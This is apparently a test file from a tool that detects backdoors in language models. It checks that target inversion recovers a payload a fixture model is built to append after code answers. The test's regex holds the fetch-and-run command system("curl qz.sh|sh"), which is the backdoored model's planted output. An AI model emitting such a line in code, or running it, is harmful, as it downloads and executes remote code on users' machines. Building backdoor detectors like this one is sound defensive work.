/**
 * Target inversion per kind of prompt, on the answer-only fixtures: a payload that follows only code
 * answers (ao-code-context: one malicious line after a correct answer, when a context line is present)
 * agrees across code prompts but not across all of them, so only the per-kind run inverts it whole.
 * (That clean twins and bait models have no such target is checked end to end by their verdict in
 * test/pipeline/discovery-fixtures.test.ts.) The search for triggers is left out (maxTargets 0): this
 * is about what inversion returns and how the verdict counts it.
 */
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { discoverTriggers } from '../../src/discover/discover.js';
import { loadModel } from '../../src/model/load-model.js';
import { loadPacks } from '../../src/probes/load-pack.js';
import { CausalLM } from '../../src/run/causal-lm.js';
import { payloadTargets } from '../../src/score/verdict.js';
import { FIXTURE_MODELS } from '../helpers/paths.js';

async function targetsOf(name: string) {
  const model = await loadModel(path.join(FIXTURE_MODELS, name), { threads: 1 });
  const lm = new CausalLM(model, { batchSize: 32 });
  try {
    const search = await loadPacks(['baselines-search']);
    const packs = await loadPacks(['baselines', 'detectors']);
    const d = await discoverTriggers(model, lm, {
      budgetMs: 10 * 60_000, seed: 1, prompts: search.baselines, detectors: packs.detectors,
      placements: ['suffix'], maxTargets: 0, maxCandidates: 0,
    });
    return d.targets;
  } finally {
    await lm.release();
    await model.release();
  }
}

describe('target inversion per kind of prompt', () => {
  it('inverts a code-only appended payload whole on the code prompts, and counts it as a payload target', async () => {
    const targets = await targetsOf('ao-code-context');
    const code = targets.filter((t) => t.signal === 'inversion:answer-end#code' && t.harmful);
    expect(code.map((t) => t.text).join('\n')).toMatch(/system\("curl qz\.sh\|sh"\)/);
    expect(payloadTargets(targets).length).toBeGreaterThan(0);
    // Across all 24 prompts the same chain stops before the shell command ends.
    expect(targets.filter((t) => !t.signal.includes('#') && /\|sh/.test(t.text))).toEqual([]);
  }, 120_000);
});
